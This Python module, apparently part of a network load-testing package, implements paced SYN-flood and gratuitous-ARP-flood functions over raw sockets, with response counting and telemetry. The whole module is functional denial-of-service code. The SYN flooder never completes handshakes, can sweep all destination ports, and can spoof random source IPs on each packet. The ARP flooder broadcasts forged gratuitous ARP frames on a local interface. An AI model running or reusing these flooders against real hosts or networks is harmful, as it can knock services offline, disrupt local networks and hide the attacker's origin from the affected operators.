"""Paced SYN and gratuitous-ARP flooders."""

from __future__ import annotations

import errno
import math
import random
import socket
import threading
import time

from ..errors import InterfaceError, PrivilegeError
from .packets import TCP_ACK, TCP_RST, TCP_SYN, SynTemplate, build_gratuitous_arp, interface_mac, parse_ipv4_tcp
from .pacing import FloodTelemetry, PacingBucket, TelemetryCollector

SPORT_RANGE = (40000, 59999)
SEND_BATCH = 64


def _raw_socket(family, kind, proto, what: str) -> socket.socket:
    try:
        return socket.socket(family, kind, proto)
    except PermissionError as e:
        raise PrivilegeError(f"{what} needs raw-socket privilege (CAP_NET_RAW)") from e


def route_source(target: str) -> str:
    """Local address the kernel would use to reach ``target``."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect((target, 9))
            return s.getsockname()[0]
    except OSError as e:
        raise InterfaceError(f"no route to {target}: {e.strerror or e}") from e


def paced_send(send, rate_pps: int, duration_s: float, collector: TelemetryCollector,
               stop: threading.Event | None = None) -> tuple[int, int, float]:
    """Call ``send(i)`` at ``rate_pps`` for ``duration_s``; returns (sent, errors, elapsed)."""
    bucket = PacingBucket(rate_pps, depth=max(1, rate_pps // 200))
    bucket.tokens = 1.0  # first packet goes out at t = 0
    t0 = collector.t0
    t_end = t0 + duration_s
    sent = errors = 0
    now = time.monotonic()
    while now < t_end and not (stop is not None and stop.is_set()):
        n = bucket.take(SEND_BATCH)
        if n == 0:
            time.sleep(min(bucket.wait_time(), t_end - now))
            now = time.monotonic()
            continue
        ok = 0
        for _ in range(n):
            try:
                send(sent + ok)
                ok += 1
            except OSError as e:
                if e.errno in (errno.ENETUNREACH, errno.ENODEV, errno.ENXIO):
                    raise InterfaceError(str(e)) from e
                errors += 1
        sent += ok
        now = time.monotonic()
        collector.add("sent", now, ok)
    return sent, errors, time.monotonic() - t0


class _ResponseCounter(threading.Thread):
    """Counts SYN/ACK and RST segments from ``target`` addressed to our source ports."""

    def __init__(self, target: str, sports: tuple[int, int], dports: set[int] | None,
                 collector: TelemetryCollector):
        super().__init__(name="syn-responses", daemon=True)
        self.target, self.sports, self.dports, self.collector = target, sports, dports, collector
        self.sock = _raw_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP, "response capture")
        self.sock.settimeout(0.05)
        self.stop_evt = threading.Event()
        self.syn_ack = 0
        self.rst = 0

    def run(self):
        lo, hi = self.sports
        while not self.stop_evt.is_set():
            try:
                pkt = self.sock.recv(65535)
            except socket.timeout:
                continue
            except OSError:
                break
            p = parse_ipv4_tcp(pkt)
            if p is None or p["src"] != self.target or not lo <= p["dport"] <= hi:
                continue
            if self.dports is not None and p["sport"] not in self.dports:
                continue
            f = p["flags"]
            if f & TCP_RST:
                self.rst += 1
            elif f & TCP_SYN and f & TCP_ACK:
                self.syn_ack += 1
            else:
                continue
            self.collector.add("resp", time.monotonic(), 1)
        self.sock.close()


def syn_flood(target: str, rate_pps: int, duration_s: float, dport: int = 80,
              port_strategy: str = "fixed", random_source: bool = False,
              count_responses: bool = True, stop: threading.Event | None = None,
              seed: int | None = None) -> FloodTelemetry:
    """Send paced TCP SYNs to ``target``; never completes a handshake.

    ``port_strategy`` is ``fixed`` (always ``dport``) or ``rotate`` (cycles
    through 1..65535).  With ``random_source`` the IP source is spoofed per
    packet and no responses can be counted.
    """
    if rate_pps <= 0:
        raise ValueError("rate must be positive")
    if duration_s < 0:
        raise ValueError("duration must be >= 0")
    if port_strategy not in ("fixed", "rotate"):
        raise ValueError(f"unknown port strategy {port_strategy!r}")
    src = route_source(target)
    rng = random.Random(seed)
    sock = _raw_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW, "SYN flood")
    tpl = SynTemplate(src, target)
    lo, hi = SPORT_RANGE
    span = hi - lo + 1
    isn = rng.getrandbits(32)
    n_windows = max(1, math.ceil(duration_s))
    collector = TelemetryCollector(time.monotonic(), n_windows).start()
    counter = None
    if count_responses and not random_source:
        counter = _ResponseCounter(target, SPORT_RANGE, {dport} if port_strategy == "fixed" else None, collector)
        counter.start()
    addr = (target, 0)
    sendto = sock.sendto

    if random_source:
        def send(i):
            spoof = SynTemplate(socket.inet_ntoa(rng.getrandbits(32).to_bytes(4, "big")), target)
            sendto(spoof.make(lo + i % span, dport, isn + i, i), addr)
    elif port_strategy == "fixed":
        def send(i):
            sendto(tpl.make(lo + i % span, dport, isn + i, i), addr)
    else:
        def send(i):
            sendto(tpl.make(lo + i % span, 1 + i % 65535, isn + i, i), addr)

    try:
        sent, errors, elapsed = paced_send(send, rate_pps, duration_s, collector, stop)
    finally:
        sock.close()
        if counter is not None:
            time.sleep(0.2)  # late responses still land in the last window
            counter.stop_evt.set()
            counter.join()
    sent_w, resp_w = collector.close()
    meta = {"kind": "syn_flood", "target": target, "source": "random" if random_source else src,
            "dport": dport, "port_strategy": port_strategy}
    if counter is not None:
        meta.update(syn_ack=counter.syn_ack, rst=counter.rst)
    return FloodTelemetry(rate_pps, duration_s, sent_w, resp_w, errors, elapsed, meta)


def arp_flood(interface: str, target: str, rate_pps: int, duration_s: float,
              stop: threading.Event | None = None) -> FloodTelemetry:
    """Broadcast paced gratuitous ARP requests for ``target`` on ``interface``."""
    if rate_pps <= 0:
        raise ValueError("rate must be positive")
    if duration_s < 0:
        raise ValueError("duration must be >= 0")
    try:
        socket.if_nametoindex(interface)
    except OSError as e:
        raise InterfaceError(f"no such interface: {interface}") from e
    socket.inet_aton(target)
    sock = _raw_socket(socket.AF_PACKET, socket.SOCK_RAW, 0, "ARP flood")
    try:
        sock.bind((interface, 0))
    except OSError as e:
        sock.close()
        raise InterfaceError(f"cannot bind to {interface}: {e.strerror}") from e
    frame = build_gratuitous_arp(interface_mac(interface), target)
    collector = TelemetryCollector(time.monotonic(), max(1, math.ceil(duration_s))).start()
    send_frame = sock.send
    try:
        sent, errors, elapsed = paced_send(lambda i: send_frame(frame), rate_pps, duration_s, collector, stop)
    finally:
        sock.close()
    sent_w, resp_w = collector.close()
    meta = {"kind": "arp_flood", "interface": interface, "target": target}
    return FloodTelemetry(rate_pps, duration_s, sent_w, resp_w, errors, elapsed, meta)
